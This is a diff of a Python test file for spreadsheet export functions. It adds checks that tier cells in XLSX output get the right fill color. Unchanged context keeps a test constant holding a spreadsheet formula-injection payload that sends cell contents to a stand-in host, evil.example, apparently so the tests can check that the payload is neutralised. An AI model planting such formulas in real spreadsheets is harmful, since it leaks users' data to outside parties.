@@ -7,6 +7,7 @@ import openpyxl
 import pandas as pd
 import pytest
 
+from lib.charts import tier_color
 from lib.export import formula_safe, formula_safe_frame, to_csv_bytes, write_table
 
 MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -90,5 +91,8 @@ def test_xlsx_keeps_text_as_text_cells_and_numbers_as_numbers(frame, tmp_path, n
         assert math.isclose(row[2].value, revenue)
         assert row[0].data_type == "s"
         assert row[3].value.startswith("Tier ")
+        tier = int(row[3].value.removeprefix("Tier "))
+        assert row[3].fill.fgColor.rgb == "FF" + tier_color(tier).removeprefix("#").upper()
+    assert rows[1][1].fill.fgColor.rgb in (None, "00000000")  # other text: no fill
     assert rows[4][1].value is None  # a missing name is a blank cell, not "None" or "nan"
     assert len(rows) == len(frame) + 1
